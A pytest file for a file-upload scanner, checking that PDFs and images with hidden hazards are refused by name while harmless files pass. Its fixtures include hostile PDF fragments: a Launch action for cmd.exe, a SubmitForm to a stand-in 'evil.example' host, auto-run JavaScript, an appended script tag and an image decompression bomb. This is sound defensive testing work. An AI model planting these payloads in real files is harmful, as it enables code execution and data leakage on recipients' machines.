"""What files hide: each kind of hiding is found, whatever it is packed into, and nothing harmless is refused."""

import asyncio
import time
from pathlib import Path

import pikepdf
import pytest

from shared import scan as scanning
from shared.errors import BadInput, DependencyDown, TooLarge, UnsupportedType
from shared.forms.files import Upload, sniff
from shared.forms.texts import say
from shared.scan import Scan
from tests.unit.shared.filesamples import (
    JPG,
    JS,
    PDF,
    PNG,
    WEBP,
    a_bomb,
    a_pdf,
    a_zip,
    an_image,
    annotation,
    packed,
    root,
    with_file_inside,
)

LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
SEND = b"<< /S /SubmitForm /F (https://evil.example) >>"
PAGE = b"<< /S /GoTo /D [0 /Fit] >>"
WEB = b"<< /S /URI /URI (https://evil.example) >>"


async def looked(*files: tuple[str, bytes], language: str = "it", scan: Scan | None = None) -> BadInput | None:
    """What is said of files with these names."""
    uploads = [Upload("proof", name, sniff(content[:4096]), len(content), content[:4096]) for name, content in files]
    try:
        await (scan or Scan()).look(
            uploads, [content for _, content in files], "en" if language == "en" else "it", "No."
        )
    except BadInput as refused:
        return refused
    return None


def left_behind(document: pikepdf.Pdf) -> None:
    """A script on something that the document doesn't show."""
    document.Root["/Unknown"] = document.make_indirect(pikepdf.Object.parse(b"[ 1 << /Deep [" + JS + b"] >> ]"))


HARMFUL = {
    "script at the start": (a_pdf(root(OpenAction=JS)), "runs"),
    "script by name": (a_pdf(root(Names=b"<< /JavaScript << /Names [(x) " + JS + b"] >> >>")), "runs"),
    "script in a stream of objects": (packed(OpenAction=JS), "runs"),
    "script somewhere": (a_pdf(left_behind), "runs"),
    "script after a page": (a_pdf(root(OpenAction=b"<< /S /GoTo /D (x) /Next " + JS + b" >>")), "runs"),
    "script on a button": (a_pdf(annotation(Subtype=b"/Link", A=JS)), "runs"),
    "program": (a_pdf(annotation(Subtype=b"/Link", A=LAUNCH)), "runs"),
    "program when the page opens": (packed(AA=b"<< /O " + LAUNCH + b" >>"), "runs"),
    "web page by itself": (a_pdf(root(OpenAction=WEB)), "runs"),
    "web page when the page closes": (a_pdf(root(AA=b"<< /WC " + WEB + b" >>")), "runs"),
    "sends data": (a_pdf(annotation(Subtype=b"/Link", A=SEND)), "runs"),
    "xfa": (a_pdf(root(AcroForm=b"<< /Fields [] /XFA (<xdp/>) >>")), "runs"),
    "file inside": (a_pdf(with_file_inside), "files_inside"),
    "file pinned to a page": (
        a_pdf(annotation(Subtype=b"/FileAttachment", FS=b"<< /EF << /F (x) >> >>")),
        "files_inside",
    ),
    "portfolio": (a_pdf(root(Collection=b"<< /View /D >>")), "files_inside"),
    "rich media": (a_pdf(annotation(Subtype=b"/RichMedia")), "plays"),
    "film": (a_pdf(annotation(Subtype=b"/Movie")), "plays"),
    "password": (a_pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), "encrypted"),
    "cut off": (PDF[: len(PDF) // 3], "damaged"),
    "no more than a header": (b"%PDF-1.7\n%%EOF\n", "damaged"),
    "zip behind": (PDF + a_zip(), "two_in_one"),
    "zip inside, an end behind": (PDF + a_zip() + b"\n%%EOF\n", "two_in_one"),
    "page behind": (PDF + b"<html><script>alert(1)</script>" * 99, "two_in_one"),
    "nested a thousand deep": (PDF.replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 999 + b"]" * 999), "any"),
}
HARMLESS = {
    "plain": PDF,
    "opens at a page": a_pdf(root(OpenAction=PAGE)),
    "opens at a place": a_pdf(root(OpenAction=b"[0 /Fit]")),
    "link": a_pdf(annotation(Subtype=b"/Link", A=WEB)),
    "form without programs": a_pdf(root(AcroForm=b"<< /Fields [] /NeedAppearances true >>")),
    "font called JS": a_pdf(root(Resources=b"<< /Font << /JS << /Type /Font >> >> >>")),
    "only its owner may change it": a_pdf(encryption=pikepdf.Encryption(user="", owner="secret")),
    "padding behind": PDF + b"\r\n" + bytes(500),
}


@pytest.mark.parametrize("what", HARMFUL)
async def test_a_pdf_that_could_do_something_is_refused_by_name(what: str) -> None:
    content, word = HARMFUL[what]
    refused = await looked(("modulo.pdf", content))
    assert refused is not None, what
    assert refused.status in (413, 415)
    (fault,) = refused.extra["errors"]
    assert fault["field"] == "proof"
    assert "«modulo.pdf»" in fault["message"]
    if word != "any":
        assert fault["message"] == say("it", f"file_{word}", name="modulo.pdf")


async def test_harmless_files_pass_all_in_one_look() -> None:
    files = [("a.pdf", content) for content in HARMLESS.values()]
    refused = await looked(*files, ("a.jpg", JPG), ("a.png", PNG), ("a.webp", WEBP))
    assert refused is None, refused and refused.extra


async def test_images_must_open_and_stay_within_bounds() -> None:
    noise = an_image("JPEG", (900, 900))
    for content, word, kind in (
        (a_bomb(), "too_many_pixels", TooLarge),
        (an_image("PNG", (40_000, 1)), "too_many_pixels", TooLarge),
        (noise[: len(noise) // 2], "damaged", UnsupportedType),
        (PNG[:60] + bytes(40), "damaged", UnsupportedType),
        (JPG + a_zip(), "two_in_one", UnsupportedType),
    ):
        refused = await looked(("foto.jpg", content))
        assert type(refused) is kind
        assert refused.extra["errors"][0]["message"] == say("it", f"file_{word}", name="foto.jpg")


async def test_a_telephones_film_behind_its_photo_is_no_fault() -> None:
    assert await looked(("foto.jpg", JPG + b"MotionPhoto_Data" + bytes(5000))) is None


async def test_each_bad_file_is_named_and_the_good_ones_are_not() -> None:
    refused = await looked(("a.pdf", PDF), ("b.pdf", packed(OpenAction=JS)), ("c.png", a_bomb()), language="en")
    assert isinstance(refused, UnsupportedType), "415 stands above 413"
    assert [fault["message"][:24] for fault in refused.extra["errors"]] == [
        "The PDF “b.pdf” holds pr",
        "The image “c.png” is too",
    ]


async def test_a_hostile_file_costs_bounded_time_and_blocks_nobody() -> None:
    """Millions of values: everybody else's requests go on meanwhile, and the file is refused."""

    values = b"[ " + b"[] " * 3_200_000 + b"]"
    content = PDF.replace(b"/Type /Catalog", b"/Type /Catalog /X " + values)
    longest, last = 0.0, time.monotonic()

    async def tick() -> None:
        nonlocal longest, last
        while True:
            await asyncio.sleep(0.01)  # the heartbeat that is measured
            longest, last = max(longest, time.monotonic() - last), time.monotonic()

    clock = asyncio.create_task(tick())
    started = time.monotonic()
    refused = await looked(("a.pdf", content))
    clock.cancel()
    assert refused is not None
    assert time.monotonic() - started < scanning.PATIENCE + 5
    assert longest < 1


async def test_a_child_that_hangs_is_ended_and_one_that_cannot_start_says_nothing_of_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "hangs.py"
    program.write_text("import sys, time\nprint('ready', flush=True)\ntime.sleep(60)\n")
    monkeypatch.setattr(scanning, "PROGRAM", program)
    refused = await looked(("a.pdf", PDF), ("b.pdf", PDF), scan=Scan(patience=0.5))
    assert refused is not None
    assert [fault["message"][:14] for fault in refused.extra["errors"]] == ["Il file «a.pdf"], "only one is to blame"
    program.write_text("import nothing_like_this\n")
    with pytest.raises(DependencyDown):
        await looked(("a.pdf", PDF))


async def test_who_waits_too_long_for_a_turn_is_told_to_come_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "slow.py"
    program.write_text("import time\nprint('ready', flush=True)\ntime.sleep(1)\nprint('ok')\n")
    monkeypatch.setattr(scanning, "PROGRAM", program)
    scan = Scan(at_once=1, wait=0.2)
    first, second = await asyncio.gather(
        looked(("a.pdf", PDF), scan=scan), looked(("a.pdf", PDF), scan=scan), return_exceptions=True
    )
    assert (first, type(second)) == (None, DependencyDown)
